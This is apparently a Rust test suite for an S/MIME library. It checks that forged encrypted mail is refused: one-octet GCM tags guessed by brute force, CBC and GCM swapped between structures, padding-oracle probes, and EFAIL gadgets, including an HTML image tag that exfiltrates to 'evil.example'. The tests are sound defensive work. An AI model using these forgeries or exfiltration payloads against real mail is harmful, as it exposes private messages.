//! EnvelopedData and AuthEnvelopedData: text changed under its tag, tags cut short, ciphers under other names.

use const_oid::db::rfc5911;
use smime::{
    ber::Tag,
    cipher::ContentCipher,
    cms::{RecipientKey, seal},
    message::Ciphertext,
    mime::MimeEntity,
    testing::{
        Node, enveloped_data,
        fixtures::{certificate, key},
    },
};

use crate::{
    opening::{Counting, Outcome, nothing_of_the_text, open, open_parsed, sealed},
    support::{FORGED, OpenSsl, TEXT, clear, opaque, openssl_decrypts, openssl_is_before_3_0_20, signature},
};

/// nonce, ICVlen
const GCM_PARAMETERS: [usize; 5] = [1, 0, 2, 1, 1];
const CIPHER: [usize; 5] = [1, 0, 2, 1, 0];
const CIPHERTEXT: [usize; 4] = [1, 0, 2, 2];
const MAC: [usize; 3] = [1, 0, 3];

/// CVE-2026-34182 (OpenSSL), CVE-2026-57062 (gpgsm): a tag of one octet is guessed in 256 tries at most.
#[test]
fn a_text_changed_under_a_tag_cut_short_does_not_come_out() {
    let bob = Counting::of("bob");
    let mut forged = sealed(ContentCipher::Aes256Gcm);
    assert_eq!(open(&forged.to_der(), &bob), Outcome::Opened(TEXT.as_bytes().to_vec()));
    let at = TEXT.find("Bob").unwrap();
    for (octet, (from, to)) in forged.at(&CIPHERTEXT).octets()[at..].iter_mut().zip(b"Bob".iter().zip(b"Eve"))
    {
        *octet ^= from ^ to;
    }
    *forged.at(&GCM_PARAMETERS).nodes() = {
        let nonce = forged.at(&GCM_PARAMETERS).nodes()[0].clone();
        vec![nonce, Node::primitive(Tag::INTEGER, [1])]
    };
    let tries = (0..=255_u8).map(|tag| {
        let mut forged = forged.clone();
        *forged.at(&MAC).octets() = vec![tag];
        forged.to_der()
    });
    let mut guessed = None;
    for object in tries {
        // Before the key is asked: the answer would be worth a guess.
        assert_eq!(open(&object, &bob), Outcome::Refused);
        if guessed.is_none() && openssl_is_before_3_0_20() {
            let said = openssl_decrypts("short-tag", &object, "bob");
            guessed = matches!(said, OpenSsl::Accepts(_)).then_some(said);
        }
    }
    if openssl_is_before_3_0_20() {
        guessed
            .expect("one of 256 tags is right")
            .accepts("a text changed under a tag of one octet", "Hello, Eve.");
    }
}

/// RFC 5084 3.2: 12 to 16 octets, and as many as ICVlen says; 12 where it says nothing.
#[test]
fn a_tag_of_another_length_than_is_said_or_allowed_is_refused() {
    let bob = Counting::of("bob");
    let base = sealed(ContentCipher::Aes128Gcm);
    let nonce = base.get(&GCM_PARAMETERS).get(&[0]).clone();
    for (len, said) in [
        (0, Some(0)),
        (1, Some(1)),
        (4, Some(4)),
        (11, Some(11)),
        (16, Some(17)),
        (16, Some(128)),
        (12, Some(16)),
        (16, Some(12)),
        (15, Some(14)),
        (4, Some(16)),
        (4, None),
        (16, None),
        (0, Some(16)),
        (0, None),
    ] {
        let mut forged = base.clone();
        let mut parameters = vec![nonce.clone()];
        parameters.extend(said.map(|said: u8| Node::primitive(Tag::INTEGER, [said])));
        *forged.at(&GCM_PARAMETERS).nodes() = parameters;
        forged.at(&MAC).octets().truncate(len);
        let outcome = open(&forged.to_der(), &bob);
        assert!(
            matches!(outcome, Outcome::Refused | Outcome::Undecryptable),
            "{len} octets said to be {said:?}: {outcome:?}"
        );
        openssl_decrypts("tag-lengths", &forged.to_der(), "bob")
            .is_told(&format!("{len} octets of {said:?}"));
    }
}

/// The cipher of one structure under the name of the other: CVE-2026-34182 (OpenSSL decrypted CBC in an
/// AuthEnvelopedData and looked at no tag), RFC 9709 (GCM taken for CBC).
#[test]
fn a_cipher_without_a_tag_in_authenticated_enveloped_data_is_refused_before_the_key_is_asked() {
    let bob = Counting::of("bob");
    // What CBC encrypted, in the structure that stands for authenticated content.
    let mut cbc = sealed(ContentCipher::Aes256Cbc);
    *cbc.at(&[0]) = Node::oid(rfc5911::ID_CT_AUTH_ENVELOPED_DATA);
    cbc.at(&[1, 0]).nodes().push(Node::octet_string([0; 16]));
    *cbc.at(&[1, 0, 0]) = Node::primitive(Tag::INTEGER, [0]);
    assert_eq!(open(&cbc.to_der(), &bob), Outcome::Refused);
    let said = openssl_decrypts("cbc-in-authenticated", &cbc.to_der(), "bob");
    if openssl_is_before_3_0_20() {
        said.accepts("CBC in AuthEnvelopedData", TEXT);
    } else {
        said.is_told("CBC in AuthEnvelopedData");
    }
    // No cipher at all, and one that nobody knows.
    for oid in ["2.16.840.1.101.3.4.1.42", "2.16.840.1.101.3.4.1.44", "1.2.840.113549.3.7", "1.2.3.4"] {
        let mut other = sealed(ContentCipher::Aes256Gcm);
        *other.at(&CIPHER) = Node::oid(oid.parse().unwrap());
        assert_eq!(open(&other.to_der(), &bob), Outcome::Refused, "{oid}");
    }
}

/// RFC 9709: an AuthEnvelopedData rewritten as an EnvelopedData in CBC decrypts what the attacker likes under the
/// key of captured mail. It cannot be told from other CBC; what comes out is not the text, and nothing vouches for it.
#[test]
fn captured_authenticated_content_rewritten_as_cbc_gives_no_text() {
    let bob = Counting::of("bob");
    let mut forged = sealed(ContentCipher::Aes256Gcm);
    let ciphertext = forged.at(&CIPHERTEXT).octets().clone();
    *forged.at(&[0]) = Node::oid(rfc5911::ID_ENVELOPED_DATA);
    forged.at(&[1, 0]).nodes().pop();
    *forged.at(&[1, 0, 2, 1]) =
        Node::sequence([Node::oid(rfc5911::ID_AES_256_CBC), Node::octet_string([0; 16])]);
    let mut opened = 0;
    for last in 0..=255_u8 {
        // The attacker's blocks, until padding comes out by chance: that is the oracle.
        let mut blocks = ciphertext[..32].to_vec();
        blocks[15] = last;
        *forged.at(&CIPHERTEXT).octets() = blocks;
        match open(&forged.to_der(), &bob) {
            Outcome::Opened(content) => {
                nothing_of_the_text(&Outcome::Opened(content), "rewritten");
                opened += 1;
            }
            outcome => assert_eq!(outcome, Outcome::Undecryptable),
        }
    }
    println!("{opened} of 256 have valid padding: none is told apart to who sent it");
    let object = forged.to_der();
    let enveloped = enveloped_data(&object);
    assert!(!enveloped.algorithm().unwrap().is_authenticated());
}

/// CVE-2025-15467: a nonce longer than the buffer it was copied to.
#[test]
fn nonces_of_other_lengths_than_are_written_are_refused_before_the_key_is_asked() {
    let bob = Counting::of("bob");
    for cipher in [ContentCipher::Aes128Gcm, ContentCipher::Aes256Gcm, ContentCipher::ChaCha20Poly1305] {
        for len in [0, 1, 8, 11, 13, 15, 17, 24, 32, 64, 255, 4096, 100_000] {
            let mut forged = sealed(cipher);
            let nonce = match cipher {
                ContentCipher::ChaCha20Poly1305 => forged.at(&GCM_PARAMETERS),
                _ => forged.at(&GCM_PARAMETERS).at(&[0]),
            };
            nonce.octets().resize(len, 7);
            assert_eq!(open(&forged.to_der(), &bob), Outcome::Refused, "{} with {len}", cipher.name());
        }
    }
    // PKI.js writes nonces of 16 octets; another one is another text.
    let mut forged = sealed(ContentCipher::Aes256Gcm);
    forged.at(&GCM_PARAMETERS).at(&[0]).octets().resize(16, 0);
    assert_eq!(open(&forged.to_der(), &bob), Outcome::Undecryptable);
}

/// CVE-2017-17688 and CVE-2017-17689 (EFAIL), the gadget: CBC lets the first block be chosen. It comes out, because
/// CBC has no tag; it is marked as what nobody vouches for, and a signature inside no longer holds.
#[test]
fn a_first_block_chosen_by_an_attacker_is_marked_as_unauthenticated_and_breaks_the_signature_inside() {
    let bob = Counting::of("bob");
    let inside = clear(TEXT, &signature("alice", TEXT));
    let recipient = RecipientKey::new(certificate("bob")).unwrap();
    let mut forged =
        Node::parse(&seal(&[inside.as_bytes()], ContentCipher::Aes256Cbc, &[recipient]).unwrap());
    let iv = forged.at(&GCM_PARAMETERS).octets();
    for (octet, (known, chosen)) in iv.iter_mut().zip(inside.bytes().zip(*b"X: <img src=\"//e")) {
        *octet ^= known ^ chosen;
    }
    let object = forged.to_der();
    let enveloped = enveloped_data(&object);
    assert!(!enveloped.algorithm().unwrap().is_authenticated());
    let Outcome::Opened(content) = open_parsed(&enveloped, &bob) else { unreachable!() };
    assert!(content.starts_with(b"X: <img src=\"//e"));
    openssl_decrypts("gadget", &object, "bob").accepts("a first block of the attacker's", "<img src=");
    let mail = format!("From: alice@example.org\r\n{}", String::from_utf8_lossy(&content));
    assert_ne!(crate::support::verdict(&mail).result(), smime::message::AuthResult::Pass);
    // The same in GCM does not come out at all.
    let mut gcm = sealed(ContentCipher::Aes256Gcm);
    gcm.at(&CIPHERTEXT).octets()[0] ^= 1;
    assert_eq!(open(&gcm.to_der(), &bob), Outcome::Undecryptable);
}

/// EFAIL, direct exfiltration: captured ciphertext between parts of the attacker's. It is found only where it is all
/// there is.
#[test]
fn ciphertext_between_an_attackers_parts_is_not_found() {
    let object = sealed(ContentCipher::Aes256Cbc).to_der();
    let ciphertext = opaque("enveloped-data", &object);
    let html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
    for kind in ["mixed", "alternative", "related", "signed", "digest", "parallel"] {
        let around = format!(
            "Content-Type: multipart/{kind}; boundary=x\r\n\r\n--x\r\n{html}\r\n--x\r\n{ciphertext}\r\n--x\r\n\
             Content-Type: text/html\r\n\r\n\">\r\n--x--\r\n"
        );
        let alone =
            format!("Content-Type: multipart/{kind}; boundary=x\r\n\r\n--x\r\n{ciphertext}\r\n--x--\r\n");
        for entity in [around.clone(), alone, clear(&around, &signature("mallory", &around))] {
            assert_eq!(Ciphertext::find(&MimeEntity::parse(entity.as_bytes())), None, "{entity}");
        }
    }
    let inside = format!("Content-Type: message/rfc822\r\n\r\n{ciphertext}");
    assert_eq!(Ciphertext::find(&MimeEntity::parse(inside.as_bytes())), None);
    assert!(Ciphertext::find(&MimeEntity::parse(ciphertext.as_bytes())).is_some());
}

/// RUSTSEC-2023-0096, and OpenSSL's command, which writes content before it knows whether it is good: of what fails
/// its check nothing is left, not in the error either.
#[test]
fn of_content_that_fails_its_check_nothing_comes_out() {
    let mut forged = sealed(ContentCipher::Aes256Gcm);
    forged.at(&MAC).octets()[0] ^= 1;
    let object = forged.to_der();
    let enveloped = enveloped_data(&object);
    let recipient = enveloped.recipient_for(&certificate("bob")).unwrap();
    let error = enveloped.open(recipient, &key("bob")).unwrap_err();
    assert_eq!(format!("{error:?} {error}"), "Undecryptable the content cannot be decrypted");
    let changed = clear(FORGED, &signature("alice", TEXT));
    let mail = crate::support::mail("alice@example.org", &changed);
    let OpenSsl::Refuses(written) = crate::support::openssl_verifies("early", &mail, &[]) else {
        unreachable!()
    };
    println!("OpenSSL refuses a changed text, and had written {} octets of it", written.len());
    assert!(String::from_utf8_lossy(&written).contains("Pay Mallory"));
}

/// CVE-2017-11776 (Outlook): mail that was to be encrypted held its text in clear as well.
#[test]
fn no_piece_of_the_text_is_in_what_is_sealed() {
    let text = "Content-Type: text/plain\r\nSubject: canary subject\r\n\r\ncanary text\r\n";
    let recipient = RecipientKey::new(certificate("bob")).unwrap();
    for cipher in ContentCipher::ALL {
        let sealed = seal(&[text.as_bytes()], cipher, std::slice::from_ref(&recipient)).unwrap();
        for piece in text.as_bytes().windows(6) {
            assert!(!sealed.windows(6).any(|window| window == piece), "{}", cipher.name());
        }
    }
}
